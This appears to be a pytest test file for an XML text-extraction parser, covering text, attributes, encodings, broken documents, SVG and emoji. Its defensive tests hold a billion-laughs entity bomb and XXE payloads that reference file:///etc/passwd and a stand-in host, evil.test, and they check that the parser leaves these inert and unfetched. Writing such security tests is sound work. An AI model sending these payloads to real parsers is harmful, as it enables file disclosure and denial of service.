"""XML documents: text, attributes, comments, and entity bombs."""

from __future__ import annotations

import pytest

from tests.effort import counted
from tests.parsers.reading import read


def test_lines_attributes_and_comments() -> None:
    data = b"<r xmlns='u'><p>foo <b>ba</b>r</p><x id='k7'>1</x><y>2</y><!-- note --><![CDATA[<z>]]>&amp;&#1488;</r>"
    reading = read(data, "a.xml")
    assert reading.text() == "foo bar\n1\n2\n<z>&א"
    assert reading.text("properties") == "k7"
    assert reading.text("comment") == "note"
    assert reading.codes == []


@pytest.mark.parametrize("codec", ["utf-8", "utf-16", "windows-1255", "iso-8859-8", "utf-8-sig"])
def test_character_sets(codec: str) -> None:
    stated = codec.removesuffix("-sig")
    assert read(f'<?xml version="1.0" encoding="{stated}"?><r>פרויקט הנץ</r>'.encode(codec)).text() == "פרויקט הנץ"


ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<!DOCTYPE r [<!ENTITY l0 "lol">{ENTITIES}]>'


def test_entity_bomb_is_inert_and_told() -> None:
    data = f'<?xml version="1.0"?>{BOMB}<r>before &l9; after</r>'.encode()
    with counted() as effort:
        reading = read(data)
    assert effort.steps < 5_000
    assert reading.text() == "before &l9; after"
    assert "lol" in reading.text("hidden")
    assert reading.codes == ["damaged"]


def test_entity_bomb_in_an_attribute() -> None:
    reading = read(f'{BOMB}<r a="&l9;">after</r>'.encode())
    assert "after" in reading.text()
    assert reading.codes == ["damaged"]


def test_a_document_type_of_any_length_is_kept() -> None:
    rules = "".join(f'<!ENTITY clause{n} "the heron ]> clause {n}">\n' for n in range(6000))
    data = f'<!DOCTYPE r SYSTEM "osprey.dtd" [{rules}<!ELEMENT kite (r)>]><r>after &clause7;</r>'.encode()
    reading = read(data, "a.xml")
    hidden = reading.text("hidden")
    assert len(data) > 200_000 and "clause 5999" in hidden and "kite" in hidden and "osprey" in hidden
    assert reading.text() == "after &clause7;" and reading.codes == ["damaged"]


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]>',
    ],
)
def test_external_entities_are_not_fetched(doctype: str) -> None:
    reading = read(f"{doctype}<r>a &x; b</r>".encode())
    assert "root:" not in str(reading.extract)
    assert "external" in reading.codes


def test_broken_xml_is_kept_whole() -> None:
    reading = read(b"<?xml version='1.0'?><r><a>falcon</b></r>")
    assert "falcon" in reading.text()
    assert reading.codes == ["damaged"]


def test_depth_costs_nothing() -> None:
    depth = 100_000
    reading = read(b"<?xml version='1.0'?>" + b"<a>" * depth + b"deep" + b"</a>" * depth)
    assert reading.text() == "deep"


def test_svg_is_a_picture_with_text() -> None:
    reading = read(
        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><text>fal<tspan>con</tspan></text></svg>"
    )
    assert reading.extract.type == "image/svg+xml"
    assert reading.text() == "falcon"


def test_empty_document_says_so() -> None:
    assert read(b"<?xml version='1.0'?><r/>").codes == ["no-text"]


@pytest.mark.parametrize(
    ("inner", "text"),
    [
        ("Intro <p>first</p><p>second</p> tail<br/>after", "Intro\nfirst\nsecond\ntail\nafter"),
        ("the <b>blue</b> her<i>on</i>", "the blue heron"),
        (
            "<description>a&amp;nbsp;blue &lt;b&gt;her&lt;/b&gt;on &amp;#8211; D&amp;iacute;a</description>",
            "a blue heron – Día",
        ),
        ("<x:encoded xmlns:x='u'><![CDATA[<p>one</p><p>two</p>]]></x:encoded>", "one\n\ntwo"),
        ("<code>&lt;b&gt; stays</code>", "<b> stays"),
    ],
)
def test_words_stand_as_a_reader_sees_them(inner: str, text: str) -> None:
    said = read(f"<?xml version='1.0'?><r>{inner}</r>".encode()).text("body")
    assert said.replace("\xa0", " ") == text


def test_references_in_a_broken_document_are_letters() -> None:
    assert "her\u7232on & a&copy=b" in read(b"<?xml version='1.0'?><r>her&#29234;on &amp; a&copy=b<", "a.xml").text()


def test_many_document_types_cost_nothing() -> None:
    with counted() as effort:
        reading = read(b"<?xml version='1.0'?>" + b"<!DOCTYPE r [" * 20_000, "a.xml")
    assert effort.steps < 5_000
    assert reading.codes == ["damaged"]


def test_emoji_in_two_halves_are_read() -> None:
    reading = read(b'<?xml version="1.0"?><smses><sms body="see you &#55357;&#56832; heron"/></smses>', "x.xml")
    assert reading.text("properties") == "see you \U0001f600 heron" and reading.codes == []
